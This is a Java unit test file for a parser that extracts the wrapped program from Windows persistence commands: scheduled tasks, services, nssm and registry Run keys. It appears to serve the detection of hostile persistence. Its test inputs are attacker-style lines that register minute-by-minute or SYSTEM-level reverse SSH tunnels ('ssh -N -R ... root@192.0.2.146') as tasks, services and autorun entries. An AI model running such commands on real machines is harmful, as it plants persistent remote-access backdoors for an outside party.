package dev.backflow.commandline;

import static dev.backflow.commandline.Unwrapped.inside;
import static dev.backflow.commandline.Unwrapped.only;
import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class RegistrationWrappersTest {
  private static final String SSH =
      "%programdata%\\sshd\\ssh.exe -i %programdata%\\k\\id_rsa -N -R 369:127.0.0.1:2222"
          + " root@192.0.2.146";

  @ParameterizedTest
  @ValueSource(
      strings = {
        "schtasks.exe /create /sc minute /mo 1 /tn \"SSH Key\" /rl highest /np /tr \"" + SSH + "\"",
        "schtasks /CREATE /TR \"" + SSH + "\" /TN \"SSH Key\" /SC MINUTE /MO 1 /F",
        "schtasks -create -tr \"" + SSH + "\" -tn \"SSH Key\" -sc minute -mo 1",
        "schtasks /s host /u D\\u /p pw /create /tn \"SSH Key\" /tr \""
            + SSH
            + "\" /sc minute /mo 1",
        "schtasks /change /tn \"SSH Key\" /tr \"" + SSH + "\" /sc minute /mo 1",
      })
  void schtasks_registers_what_tr_holds(String line) {
    UnwrappedCommand task = only(line);
    assertThat(task.commandLine()).isEqualTo(SSH);
    assertThat(task.registered()).isTrue();
    assertThat(task.name()).isEqualTo("SSH Key");
    assertThat(task.trigger()).isEqualTo("minute 1");
    assertThat(task.runAs()).isNull();
    assertThat(task.refusal()).isNull();
    assertThat(task.wrappedBy()).containsExactly("schtasks");
  }

  @Test
  void schtasks_says_who_the_task_runs_as() {
    UnwrappedCommand task =
        only("schtasks /create /tn T /tr \"ssh -R 1080 u@h\" /sc onstart /ru SYSTEM");
    assertThat(task.runAs()).isEqualTo("SYSTEM");
    assertThat(task.trigger()).isEqualTo("onstart");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "\"'C:\\a b\\ssh.exe' -R 1080 u@h\" | \"C:\\a b\\ssh.exe\" -R 1080 u@h",
        "\"\\\"C:\\a b\\ssh.exe\\\" -R 1080 u@h\" | \"C:\\a b\\ssh.exe\" -R 1080 u@h",
        "\"ssh -o \\\"RemoteForward 1 h:2\\\" u@h\" | ssh -o \"RemoteForward 1 h:2\" u@h",
        "\"cmd /c \\\"ssh -R 1080 u@h > C:\\log.txt\\\"\" | ssh -R 1080 u@h",
      })
  void quotes_inside_tr_are_the_task_s_own(String tr, String expected) {
    assertThat(only("schtasks /create /tn T /tr " + tr + " /sc onlogon").commandLine())
        .isEqualTo(expected);
  }

  @Test
  void an_unquoted_task_line_is_refused_by_schtasks_and_shown_as_meant() {
    UnwrappedCommand task =
        only(
            "schtasks.exe /create /sc minute /mo 1 /tn \"Key\" /rl highest /np /tr"
                + " C:\\d\\ssh.exe -i C:\\d\\id_rsa -N -R 22443:127.0.0.1:2222 root@192.0.2.5 -p"
                + " 443");
    assertThat(task.commandLine())
        .isEqualTo(
            "C:\\d\\ssh.exe -i C:\\d\\id_rsa -N -R 22443:127.0.0.1:2222 root@192.0.2.5 -p 443");
    assertThat(task.refusal()).contains("/tr").contains("-N");
  }

  @Test
  void an_unquoted_task_line_ends_at_the_next_option_of_schtasks() {
    UnwrappedCommand task =
        only("schtasks /create /tn T /tr ssh -R 1080 u@h /sc onstart /ru SYSTEM");
    assertThat(task.commandLine()).isEqualTo("ssh -R 1080 u@h");
    assertThat(task.refusal()).contains("-R");
    assertThat(task.runAs()).isEqualTo("SYSTEM");
  }

  @Test
  void a_task_line_longer_than_schtasks_takes_is_refused() {
    String line = "ssh -R 1080 u@h -i C:\\" + "k".repeat(250);
    assertThat(only("schtasks /create /tn T /tr \"" + line + "\"").refusal()).contains("261");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "schtasks",
        "schtasks /query /tn T",
        "schtasks /run /tn T",
        "schtasks /create /tn T /xml t.xml",
        "schtasks /create /tn T /tr",
        "schtasks /create /tn T /tr \"\"",
        "schtasks /create /tn T /tr C:\\x\\tunnel.bat /sc onstart",
        "sc query",
        "sc create s",
        "sc create s start= auto",
        "sc start s",
        "nssm start s",
        "nssm install s",
        "nssm set s AppDirectory C:\\x",
        "reg add HKCU\\Software\\x /v a /d \"ssh -R 1080 u@h\"",
        "reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        "powershell Set-ItemProperty HKCU:\\Software\\x -Name a -Value 'ssh -R 1080 u@h'",
      })
  void what_registers_no_program_holds_nothing(String line) {
    assertThat(inside(line)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "sc create Tun binPath= \"ssh -R 1080 u@h\" start= auto obj= LocalSystem",
        "sc.exe \\\\192.0.2.7 create Tun binPath= \"ssh -R 1080 u@h\" start= auto obj= LocalSystem",
        "SC CREATE Tun BINPATH= \"ssh -R 1080 u@h\" START= auto OBJ= LocalSystem",
        "sc create Tun binPath=\"ssh -R 1080 u@h\" start=auto obj=LocalSystem",
        "sc config Tun obj= LocalSystem start= auto binPath= \"cmd /c ssh -R 1080 u@h\"",
      })
  void sc_registers_what_binpath_holds(String line) {
    UnwrappedCommand service = only(line);
    assertThat(service.commandLine()).isEqualTo("ssh -R 1080 u@h");
    assertThat(service.registered()).isTrue();
    assertThat(service.name()).isEqualTo("Tun");
    assertThat(service.runAs()).isEqualTo("LocalSystem");
    assertThat(service.trigger()).isEqualTo("auto");
  }

  @Test
  void a_service_path_with_blanks_keeps_its_quotes() {
    assertThat(only("sc create T binPath= \"\\\"C:\\a b\\plink.exe\\\" -R 1:h:2 h\"").commandLine())
        .isEqualTo("\"C:\\a b\\plink.exe\" -R 1:h:2 h");
  }

  @Test
  void a_recovery_command_is_registered_too() {
    assertThat(only("sc failure Tun command= \"ssh -R 1080 u@h\" actions= run/5").commandLine())
        .isEqualTo("ssh -R 1080 u@h");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "nssm install Tun C:\\t\\ssh.exe -N -R 1080 u@h | C:\\t\\ssh.exe -N -R 1080 u@h",
        "nssm install Tun C:\\t\\ssh.exe \"-N -R 1080 u@h\" | C:\\t\\ssh.exe -N -R 1080 u@h",
        "nssm64.exe install Tun \"C:\\a b\\ssh.exe\" -R 1080 h | \"C:\\a b\\ssh.exe\" -R 1080 h",
        "nssm set Tun AppParameters -N -R 369:127.0.0.1:2222 u@h | Tun -N -R 369:127.0.0.1:2222 u@h",
        "nssm set Tun AppParameters \"-N -R 1080 u@h\" | Tun -N -R 1080 u@h",
        "nssm set Tun Application C:\\t\\ssh.exe | C:\\t\\ssh.exe",
      })
  void nssm_joins_what_it_is_given(String line, String expected) {
    UnwrappedCommand service = only(line);
    assertThat(service.commandLine()).isEqualTo(expected);
    assertThat(service.registered()).isTrue();
    assertThat(service.name()).isEqualTo("Tun");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v T /t REG_SZ /d"
            + " \"ssh -R 1080 u@h\" /f",
        "REG ADD \"HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\" /V T /D"
            + " \"ssh -R 1080 u@h\"",
        "reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\T /v ImagePath /d \"ssh -R 1080 u@h\"",
        "powershell Set-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' T"
            + " 'ssh -R 1080 u@h'",
        "powershell New-ItemProperty -Path HKCU:\\x\\Run -Name T -Value 'ssh -R 1080 u@h' -Force",
      })
  void a_line_under_a_run_key_is_registered(String line) {
    UnwrappedCommand run = only(line);
    assertThat(run.commandLine()).isEqualTo("ssh -R 1080 u@h");
    assertThat(run.registered()).isTrue();
    assertThat(run.name()).isEqualTo("T");
  }
}
